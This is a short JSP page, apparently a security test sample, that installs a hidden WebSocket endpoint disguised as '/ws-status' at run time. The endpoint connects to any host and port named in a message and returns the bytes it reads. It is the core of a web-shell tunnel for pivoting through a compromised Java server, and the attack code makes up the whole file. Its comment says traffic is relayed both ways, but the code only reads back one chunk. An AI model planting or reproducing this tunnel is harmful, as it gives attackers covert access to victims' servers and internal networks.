<%@ page import="java.io.*,java.net.*,java.nio.ByteBuffer,java.util.*,javax.websocket.*,javax.websocket.server.*" %>
<%-- inert test sample: the page installs a WebSocket endpoint at run time; each message names a
     host and port that the endpoint connects to, and the bytes are relayed both ways --%>
<%!
    public static class Relay extends Endpoint {
        public void onOpen(final Session ws, EndpointConfig cfg) {
            ws.addMessageHandler(new MessageHandler.Whole<String>() {
                public void onMessage(String target) {
                    try {
                        String[] hp = target.split(":");
                        Socket s = new Socket();
                        s.connect(new InetSocketAddress(hp[0], Integer.parseInt(hp[1])), 3000);
                        InputStream in = s.getInputStream();
                        byte[] buf = new byte[4096];
                        int n = in.read(buf);
                        if (n > 0) ws.getBasicRemote().sendBinary(ByteBuffer.wrap(buf, 0, n));
                    } catch (Exception ignored) {
                    }
                }
            });
        }
    }
%>
<%
    ServerContainer sc = (ServerContainer) application.getAttribute(ServerContainer.class.getName());
    ServerEndpointConfig cfg = ServerEndpointConfig.Builder.create(Relay.class, "/ws-status").build();
    try { sc.addEndpoint(cfg); out.print("ok"); } catch (Exception e) { out.print("exists"); }
%>
